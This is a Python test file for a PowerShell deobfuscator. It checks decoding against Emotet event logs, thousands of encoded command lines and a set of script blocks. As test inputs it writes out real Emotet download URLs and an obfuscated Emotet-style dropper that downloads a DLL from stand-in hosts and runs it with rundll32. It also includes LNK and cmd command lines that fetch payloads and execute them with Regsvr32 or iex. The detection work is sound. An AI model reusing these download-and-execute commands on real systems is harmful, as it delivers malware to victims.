#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Deobfuscation on real material: Emotet's events and command lines, 2,000 encoded command lines, every script block.

usage: test_corpora.py BUILD_FOLDER SOURCE_FOLDER        skipped (77) where ../shared is not there

Says no: an address that is missing, decoded text that is not the known one in more than 1 %, more than 50 ms for a script,
a cheap test that missed a text which gives layers, a benign script in which something changed that is no constant.
"""
import base64
import glob
import gzip
import json
import os
import subprocess
import sys

EMOTET = ['http://quanticaelectronics.com/wp-admin/7ATr78/', 'https://rebelcom.ch/picture_library/bbCtlS/',
          'https://realestateagentteam.com/163/QTd/', 'https://www.riddhidisplay.com/riddhi/1pKY/',
          'http://radiosubmit.com/search_test/p/', 'http://researchchemplus.com/wp-admin/1OCC/',
          'http://szymonszyperski.pl/assets/pk/']
MAX_MS = 50.0
PLAIN_SCRIPTS = ('DeepBlue', 'Check-Obfu', 'Check-Regex', 'Create-Filter', 'Remove-Spaces', '$eventlist')  # DeepBlueCLI
failures = []


def check(what, good):
    print(f'{"ok  " if good else "FAIL"}  {what}')
    if not good:
        failures.append(what)


def decode(build, items):
    program = os.path.join(build, 'test/decode/decode_lines')
    lines = ''.join(json.dumps({'kind': k, 'text': t}) + '\n' for k, t in items)
    done = subprocess.run([program], input=lines, capture_output=True, text=True, check=True, timeout=600)
    return [json.loads(line) for line in done.stdout.splitlines()]


def events(build, paths):
    """EventData of the events that hold scripts or command lines."""
    with subprocess.Popen([os.path.join(build, 'sekisho'), 'dump'] + paths, stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL, text=True) as dump:
        for line in dump.stdout:
            if 'ScriptBlockText' in line or 'CommandLine' in line or '"EventID":800' in line:
                event = json.loads(line).get('Event', {})
                if isinstance(event.get('EventData'), dict):
                    yield event['EventData']


def test_emotet(build, shared):
    for path in sorted(glob.glob(os.path.join(shared, 'corpus/emotet/*_ps_*.evtx'))):
        for data in events(build, [path]):
            text = data.get('ScriptBlockText') or data['Data'][0]
            result = decode(build, [('powershell', text)])[0]
            final = result['layers'][-1]['text']
            found = [url for url in EMOTET if f"'{url}'" in final]
            check(f'{os.path.basename(path)}: {len(found)} of 7 addresses, {result["ms"]:.2f} ms',
                  len(found) == 7 and not result['partial'])


# The script of 2020-12-30 as its description has it, with addresses of the same shapes; disguised here.
DECEMBER = r"""set-vaRiable ("8"+"ye") ([type]("{3}{0}{2}{1}" -f 'YsTEm.','CtorY','io.dIre','s')); sv ("plt") ([TYPe]("{4}{3}{0}{1}{2}"-f'm.net.s','ERVICepOin','TmanAgeR','te','sYs'));
$ErrorActionPreference=('S'+('ile'+'nt')+('lyCo'+'ntinue'));$Ka=('b'+'c'); (gEt-VARiABle 8ye).vAlue::"cre`AtE`diRecTORY"($HOME + (('{0}Jxk4jr_{0}'+'Dhul'+'jgz{0}') -F [chAR]92));
(VAriAblE plt).VaLUE::"sEcu`RItYprot`oCOl" = ('T'+('ls1'+'2'));$Jf=('D7'+'1J');$Xf=$HOME+(('N71J'+'xk4jr_N71Dhu'+'ljgzN71').rePLacE(('N'+'71'),'\'))+$Jf+('.d'+'ll');
$Uu=(']b2[s'+'://one.test/wp-admin/A/@]b2[s'+'s://two.test/wp-content/B/@'+']b2[s://three.test/dup-installer/C/@]b2[s://four.test/wp-includes/D/@]b2[s://five.test/e/@]b2[s://six.test/f/@]b2[s://seven.test/g/')."Re`place"(']b2[s',([array]('sd','sw'),('ht'+'tp'),'3d')[1])."sp`lit"('@');
foreach($Tt in $Uu){try{(.('New'+'-Obje'+'ct') sYsTem.net.WEBcliEnt)."dowN`LoadF`ile"($Tt,$Xf);If((&('Get-'+'Item') $Xf)."l`ENgth" -ge 37992){&('r'+'undl'+'l32') $Xf,('Control'+'_RunDL'+'L')."t`ostring"();break}}catch{}}"""
DECEMBER_URLS = ['http://one.test/wp-admin/A/', 'https://two.test/wp-content/B/', 'http://three.test/dup-installer/C/',
                 'http://four.test/wp-includes/D/', 'http://five.test/e/', 'http://six.test/f/', 'http://seven.test/g/']


def encoded(text, form='utf-16-le'):
    return base64.b64encode(text.encode(form)).decode()


def test_command_lines(build):
    payload = ('$ProgressPreference="SilentlyContinue";$links=("http://u1.test/a/","http://u6.test/b/");foreach ($u in $links) '
               '{try {IWR $u -OutFile $env:TEMP/LqwxbPrZJz.LMo;Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo;break} catch { }}')
    lines = {
        'December 2020, by WMI': (
            'cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. &  P^Ow^er^she^L^L -w hidden '
            '-ENCOD                 ' + encoded(DECEMBER),
            DECEMBER_URLS + [r"$HOME+'\Jxk4jr_\Dhuljgz\D71J.dll'", '[sYsTEm.io.dIreCtorY]::', 'New-Object sYsTem.net.WEBcliEnt',
                             'rundll32 $Xf', 'Control_RunDLL', "'Tls12'"]),
        'LNK of 2022-04-26': (
            'powershell.exe -command Out-String -InputObject "Invoice for payment.lnk     " | Out-Null; '
            "[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('" + encoded(payload, 'ascii') + "')) > "
            r'"C:\Users\u\AppData\Local\Temp\sNhYaMMPOU.ps1"; powershell -executionpolicy bypass -file "$env:TEMP/\sNhYaMMPOU.ps1"',
            ['http://u1.test/a/', 'http://u6.test/b/', 'Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo']),
        'LNK of 2022-04-27': (
            'cmd.exe /v:on /c xjunk||goto&p^o^w^e^r^s^h^e^l^l.e^x^e -c "&{$DP=\'' + encoded(payload, 'ascii') + "';"
            '[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($DP))|set-variable jw;$jw=(gv jw).value;iex($jw)}"',
            ['http://u1.test/a/', 'http://u6.test/b/', 'Regsvr32.exe $env:TEMP/LqwxbPrZJz.LMo']),
        '2021-11': (
            r'powershell  $dfkj="$strs=\"http://a1.test/x/,http://a2.test/y/\".Split(\",\");foreach($st in $strs){$r1=Get-Random;'
            r'$tpth=\"C:\ProgramData\\\"+$r1+\".dll\";Invoke-WebRequest -Uri $st -OutFile $tpth;}";IEX $dfkj',
            ["'http://a1.test/x/'", "'http://a2.test/y/'"]),
    }
    for name, (line, wanted) in lines.items():
        result = decode(build, [('command', line)])[0]
        texts = [layer['text'] for layer in result['layers'][1:]]
        missing = [w for w in wanted if not any(w in text for text in texts)]
        check(f'{name}: everything comes out{", but " + str(missing) if missing else ""}', not missing and result['looks'])


SPELLINGS = ['-e', '-en', '-enc', '-enco', '-encod', '-encode', '-encoded', '-EncodedC', '-encodedcommand', '-ec', '/e', '/enc', '/EC',
             '–enc', '—e', '―EncodedCommand', '--enc', '-eNcOdEd']
BETWEEN = ['', '-nop ', '-w hidden ', '-NoP -NonI -W Hidden -Exec Bypass ', '-ep bypass ', '-sta -noni -nologo ', '/w 1 /nop ',
           '-windowstyle hidden -ExecutionPolicy Unrestricted ', '-version 2 ', '-inputformat none -OutputFormat Text ']


def test_spellings(build):
    script = 'Write-Host "\u00e9\u4e16"; Get-Date'
    items = [('command', f'{program} {between}{flag} {encoded(script)}') for flag in SPELLINGS for between in BETWEEN
             for program in ('powershell', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', 'pwsh.exe')]
    results = decode(build, items)
    wrong = [item[1] for item, r in zip(items, results) if len(r['layers']) < 2 or r['layers'][1]['text'] != script or not r['looks']]
    check(f'{len(items)} spellings of -EncodedCommand, {len(wrong)} not read {wrong[:3]}', not wrong)


def same(decoded, known):
    """The known text has lost its carriage returns, blanks at the end, and U+201C, U+201D, U+2013 became two control bytes."""
    def plain(text):
        for char in '\u201c\u201d\u2013\u2014\u2018\u2019\u2026':
            code = ord(char)
            text = text.replace(chr(code & 0xFF) + ' ' if code >> 8 == 0x20 else char, char)
        return text.replace('\r\n', '\n').replace('\r', '\n').strip()
    return plain(decoded) == plain(known)


def test_encoded_commands(build, shared):
    with gzip.open(os.path.join(shared, 'corpus/scripts/encoded-commands.jsonl.gz'), 'rt', encoding='utf-8') as handle:
        records = [json.loads(line) for line in handle]
    results = decode(build, [('command', r['command_line']) for r in records])
    known = [r['decoded'].split('\n\n[Family Name]')[0] for r in records]
    exact = sum(any(layer['text'] == k for layer in r['layers'][1:]) for r, k in zip(results, known))
    good = [any(same(layer['text'], k) for layer in r['layers'][1:]) for r, k in zip(results, known)]
    for record, result, k, ok in zip(records, results, known, good):
        if not ok:
            print('      ', repr(record['command_line'][-160:]), '\n           known', repr(k[-60:]), '\n           gave ',
                  repr(result['layers'][1]['text'][-60:] if len(result['layers']) > 1 else None))
    check(f'{len(records)} encoded command lines: {exact} to the byte, {sum(good)} but for what the known text has lost', sum(good) >= 0.99 * len(records))
    check(f'slowest {max(r["ms"] for r in results):.1f} ms, together {sum(r["ms"] for r in results):.0f} ms', max(r['ms'] for r in results) <= MAX_MS)
    check('the cheap test said yes to all', all(r['looks'] and r['looks16'] for r in results))


def test_script_blocks(build, shared):
    paths = sorted(p for p in glob.glob(os.path.join(shared, 'corpus/**/*'), recursive=True) if p.endswith(('.evtx', '.zip', '.tar.gz')))
    texts = set()
    for data in events(build, paths):
        texts |= {('powershell' if k == 'ScriptBlockText' else 'command', v) for k, v in data.items()
                  if k in ('ScriptBlockText', 'CommandLine', 'ParentCommandLine') and isinstance(v, str)}
    items = sorted(texts)
    results = decode(build, items)
    for kind in ('powershell', 'command'):
        mine = [r for i, r in zip(items, results) if i[0] == kind]
        layered = sum(len(r['layers']) > 1 for r in mine)
        print(f'      {kind}: {len(mine)} texts, {layered} with layers, {sum(r["partial"] for r in mine)} partial, '
              f'cheap test yes {sum(r["looks"] for r in mine)}, slowest {max(r["ms"] for r in mine):.1f} ms, together '
              f'{sum(r["ms"] for r in mine):.0f} ms')
    scripts = [(i[1], r) for i, r in zip(items, results) if i[0] == 'powershell']
    plain = [r for text, r in scripts if any(name in text for name in PLAIN_SCRIPTS)]
    changed = sum(len(r['layers']) > 1 for r in plain)
    check(f'{len(plain)} blocks of a log reader that hides nothing, {changed} change', len(plain) >= 30 and changed == 0)
    hiding = sum(len(r['layers']) > 1 for _, r in scripts)
    check(f'{hiding} of {len(scripts)} script blocks change: 25 that hide something and 6 of an obfuscator', 25 <= hiding <= 31)
    check(f'{len(items)} scripts and command lines, none above {MAX_MS:.0f} ms', len(items) > 1000 and max(r['ms'] for r in results) <= MAX_MS)
    check('the cheap test missed none', all(r['looks'] and r['looks16'] for r in results if len(r['layers']) > 1))


def main():
    build, source = sys.argv[1:3]
    shared = os.path.join(source, '../shared')
    test_command_lines(build)
    test_spellings(build)
    if os.path.isdir(os.path.join(shared, 'corpus/emotet')):
        test_emotet(build, shared)
        test_encoded_commands(build, shared)
        test_script_blocks(build, shared)
    else:
        print('      ../shared is not there: real events and command lines are skipped')
    return 1 if failures else 0


if __name__ == '__main__':
    sys.exit(main())
